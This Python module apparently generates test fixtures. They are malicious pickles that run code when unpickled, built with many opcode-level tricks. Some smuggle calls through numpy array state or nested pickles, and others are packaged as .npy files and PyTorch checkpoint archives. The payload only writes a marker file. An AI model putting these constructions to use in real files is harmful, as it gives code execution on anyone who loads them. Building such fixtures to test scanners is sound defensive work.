"""Make pickles that execute code when they are unpickled. Their code writes the file MARKER to the current folder.

Python's pickler does not use all opcodes that import modules, call functions or set states. Therefore, many pickles are
written opcode by opcode.
"""

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator

import numpy as np

MARKER = "was_here"
_COMMAND = f"echo > {MARKER}"
_CODE = f"open('{MARKER}', 'w').close()"


class Calls:
    """An object whose pickle is a call of `function` with `arguments`."""

    def __init__(self, function: Callable, *arguments: object):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def call(module: str, name: str, *arguments: str) -> bytes:
    return named(module, name) + b"(" + b"".join(map(text, arguments)) + b"tR"


def whole(*operations: bytes) -> bytes:
    return b"\x80\x04" + b"".join(operations) + b"."


def programs() -> dict[str, bytes]:
    """Return pickles that write the file MARKER, by a name for each pickle."""
    system, code = ("posix", "system", _COMMAND), ("builtins", "exec", _CODE)
    calls = {
        "system": system, "os.system": ("os", "system", _COMMAND), "popen": ("os", "popen", _COMMAND),
        "exec": code, "eval": ("builtins", "eval", f"exec({_CODE!r})"), "cProfile": ("cProfile", "run", _CODE),
        "profile": ("profile", "run", _CODE), "logging": ("logging", "FileHandler", MARKER),
        "shelve": ("shelve", "open", MARKER), "getoutput": ("subprocess", "getoutput", _COMMAND),
        "the class of files": ("_io", "FileIO", MARKER, "w"), "zipfile": ("zipfile", "ZipFile", MARKER, "w"),
    }  # fmt: skip
    modules = {name: name for name in ("io", "_io", "codecs", "tarfile")} | {"": "builtins"}
    calls |= {f"{name}.open".lstrip("."): (module, "open", MARKER, "w") for name, module in modules.items()}
    inner = whole(call(*system))
    own = {name: whole(call(*arguments)) for name, arguments in calls.items()} | {
        "trace": whole(call("trace", "Trace"), b"0", call("pydoc", "pipepager", "", f"cat > {MARKER}")),
        "a pickle in a pickle": whole(named("_pickle", "loads"), b"(", b"C" + bytes([len(inner)]) + inner, b"tR"),
        "protocol 0": f"cposix\nsystem\n(V{_COMMAND}\ntR.".encode(),
        "INST": f"(V{_COMMAND}\niposix\nsystem\n.".encode(),
        "OBJ": whole(b"(", named("posix", "system"), text(_COMMAND), b"o"),
        "STACK_GLOBAL": whole(text("posix"), text("system"), b"\x93", text(_COMMAND), b"\x85R"),
        "NEWOBJ": whole(named("subprocess", "Popen"), b")\x81", b"0", call(*system)),
        "NEWOBJ_EX": whole(named("_io", "FileIO"), b")}\x92", b"0", call(*system)),
        "by getattr": whole(
            named("builtins", "getattr"), b"(", named("os", "path"), text("os"), b"tR", b"0", call(*system)
        ),
        "a dotted name": whole(text("os"), text("path.os.system"), b"\x93", text(_COMMAND), b"\x85R"),
        "a module that numpy has imported": whole(
            text("numpy.testing._private.utils"), text("os.system"), b"\x93", text(_COMMAND), b"\x85R"
        ),
        "kept and fetched": whole(named("posix", "system"), b"q\x00", b"0h\x00", text(_COMMAND), b"\x85R"),
        "after an array": whole(pickle.dumps(np.zeros(3, np.uint8), 2)[2:-1], b"0", call(*system)),
        "as a state": whole(call("argparse", "Namespace"), call(*system), b"b"),
        "in the state of an array": whole(
            named("numpy._core.multiarray", "_reconstruct"), b"(", named("numpy", "ndarray"), b"K\x00\x85", b"C\x01b",
            b"tR", b"(K\x01K\x00\x85", call(*system), b"tb",
        ),
        "in the arguments of a type": whole(named("numpy", "dtype"), b"(", call(*system), b"tR"),
    }  # fmt: skip
    for protocol in range(6):
        own[f"in an array of objects, protocol {protocol}"] = pickle.dumps(
            np.array([Calls(exec, _CODE), ["1"]], dtype=object), protocol
        )
        own[f"in a list, protocol {protocol}"] = pickle.dumps([np.zeros(1, np.uint8), Calls(exec, _CODE)], protocol)
    return own


def npy(program: bytes) -> bytes:
    """Return the content of an .npy file of dtype object that contains this pickle."""
    file = io.BytesIO()
    header = {"descr": "|O", "fortran_order": False, "shape": (2,)}
    np.lib.format.write_array_header_1_0(file, header)
    return file.getvalue() + program


def checkpoints(program: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield the name and the content of a .ptm file in each format that PyTorch has used. The file has this pickle."""
    yield "bare", program
    for compression in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", compression) as archive:
            archive.writestr("archive/data.pkl", program)
            archive.writestr("archive/byteorder", "little")
            archive.writestr("archive/version", "3\n")
        yield f"zip {compression}", file.getvalue()
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    yield "old", magic + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2) + program
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(program)
            archive.addfile(member, io.BytesIO(program))
    yield "oldest", file.getvalue()
